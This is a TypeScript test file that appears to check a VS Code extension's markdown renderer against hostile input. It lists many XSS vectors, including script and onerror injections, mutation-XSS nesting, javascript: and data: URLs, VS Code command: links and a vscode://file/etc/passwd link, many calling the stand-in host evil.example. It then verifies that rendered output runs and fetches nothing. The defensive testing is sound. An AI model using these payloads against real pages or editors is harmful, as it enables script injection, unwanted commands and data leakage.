// @vitest-environment jsdom
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { JSDOM, VirtualConsole } from "jsdom";
import { describe, expect, it } from "vitest";
import { HIGHLIGHTED_LANGUAGES } from "../../src/webview/code";
import { renderMarkdown } from "../../src/webview/markdown";

const EVIL = "https://evil.example/leak";

/** What would run, load or act if it came through. */
const VECTORS = [
  "<script>globalThis.ran = true</script>",
  `<script src="${EVIL}.js"></script>`,
  `<img src="${EVIL}.png" onerror=globalThis.ran=true>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=true</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}.css"><meta http-equiv=refresh content="0;${EVIL}">`,
  `<style>@import "${EVIL}.css"; *{background:url(${EVIL})}</style>`,
  `<div style="background:url(${EVIL})" onclick=globalThis.ran=true>x</div>`,
  `<svg onload=globalThis.ran=true><image href="${EVIL}.png"/><script>globalThis.ran=1</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.ran=true></style></mglyph></table></mtext></math>`,
  `<form action="${EVIL}"><input name=x><button formaction="${EVIL}">x</button></form>`,
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<a href="#" data-action="answer" data-request="r" data-option="allowOnce">ok</a>',
  '<button data-action="run" data-command="restartServer">x</button>',
  `![x](${EVIL}.png)`,
  "[x](javascript:globalThis.ran=true)",
  "[x](JaVaScRiPt&colon;globalThis.ran=true)",
  "[x](\u0001javascript:globalThis.ran=true)",
  "[x](command:workbench.action.terminal.new?%5B%5D)",
  "[x](<command:plimsoll.allowCall>)",
  "<command:workbench.action.quit>",
  "[x](vscode://file/etc/passwd)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  `[x](https://evil.example/"onmouseover="globalThis.ran=true)`,
  "</code></pre></div><script>globalThis.ran=true</script>",
  '"><img src=x onerror=globalThis.ran=true>',
  "<noscript><p title='</noscript><img src=x onerror=globalThis.ran=true>'>",
];

/** Where the text stands; a highlighter takes the text of a block apart and puts it together. */
const PLACES: Readonly<Record<string, (vector: string) => string>> = {
  "a paragraph": (vector) => vector,
  "a list to do": (vector) => `- [ ] ${vector}\n- [x] ${vector}`,
  "a table": (vector) => `| ${vector} |\n|---:|\n| ${vector} |`,
  "a quote and a heading": (vector) => `> # ${vector}`,
  "inline code": (vector) => `\`${vector}\``,
  "the text of a link": (vector) => `[${vector}](https://example.org)`,
  "the title of a link": (vector) => `[x](https://example.org "${vector}")`,
  "the name of a language": (vector) => `\`\`\`${vector}\ncode\n\`\`\``,
  "a diff": (vector) => `\`\`\`diff\n+${vector}\n-${vector}\n@@ ${vector}\n\`\`\``,
  "blocks of six languages": (vector) =>
    HIGHLIGHTED_LANGUAGES.filter((_, index) => index % 4 === VECTORS.indexOf(vector) % 4)
      .map((name) => `\`\`\`${name}\n${vector}\n\`\`\``)
      .join("\n\n"),
  "a block that is written": (vector) => `\`\`\`html\n"${vector}`,
};

const PAYLOADS = Object.entries(PLACES).flatMap(([place, put]) =>
  VECTORS.map((vector) => [vector, place, put(vector)] as const),
);

const TAGS =
  /^(P|BR|HR|EM|STRONG|S|CODE|PRE|DIV|SPAN|A|UL|OL|LI|BLOCKQUOTE|H[1-6]|TABLE|THEAD|TBODY|TR|TH|TD|BUTTON)$/;
const ATTRIBUTES =
  /^(class|title|href|type|tabindex|start|role|aria-label|data-(action|href|path|line|language))$/;
const ACTIONS = ["link", "file", "copy", "insertCode", "newFile"];

const LINK = /^(https?:\/\/|(?!\s*[a-z][\w+.-]*:))/i;

/** What an element has that no text may bring. */
function faults(element: Element): string[] {
  const found = element.getAttributeNames().filter((name) => !ATTRIBUTES.test(name));
  if (!TAGS.test(element.tagName)) {
    found.push(element.tagName);
  }
  if ((element.getAttribute("href") ?? "#") !== "#") {
    found.push("href");
  }
  const { action, href = "" } = (element as HTMLElement).dataset;
  if (action !== undefined && !ACTIONS.includes(action)) {
    found.push(action);
  }
  return LINK.test(href) ? found : [...found, href];
}

it("has at least 250 hostile payloads", () => {
  expect(new Set(PAYLOADS.map(([, , text]) => text)).size).toBeGreaterThanOrEqual(250);
});

describe("hostile text", () => {
  it.each(PAYLOADS)("is harmless: %s in %s", (_vector, _place, text) => {
    const elements = [false, true].flatMap((streaming) => [
      ...renderMarkdown(text, streaming).querySelectorAll("*"),
    ]);
    expect(elements.flatMap(faults)).toEqual([]);
  });

  it("keeps an attacker's quotes inside the attribute that they were written to", () => {
    const link = renderMarkdown('[x](https://evil.example/"onmouseover="alert)').querySelector("a");
    expect(link?.getAttributeNames().sort()).toEqual(["data-action", "data-href", "href", "title"]);
  });

  it("runs nothing and asks no network for anything, all of it on one page that could", async () => {
    const drawn = document.createElement("div");
    for (const [, , text] of PAYLOADS) {
      drawn.append(renderMarkdown(text));
    }
    expect(await whatHappens(drawn.innerHTML)).toEqual({ ran: false, fetched: [] });
    const raw = VECTORS.slice(0, 7).join("");
    const { ran, fetched } = await whatHappens(raw);
    expect([ran, fetched.length > 0]).toEqual([true, true]);
  });
});

/** Opens a page that runs scripts and loads everything, and tells what it did. */
async function whatHappens(body: string): Promise<{ ran: boolean; fetched: string[] }> {
  const fetched: string[] = [];
  const server = createServer(({ url = "" }, response) => {
    fetched.push(url);
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const here = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const page = new JSDOM(`<!DOCTYPE html><body>${body.replaceAll(EVIL, here)}</body>`, {
    runScripts: "dangerously",
    resources: "usable",
    virtualConsole: new VirtualConsole(),
  });
  await new Promise((resolve) => page.window.addEventListener("load", resolve, { once: true }));
  const ran = "ran" in page.window;
  page.window.close();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  return { ran, fetched };
}
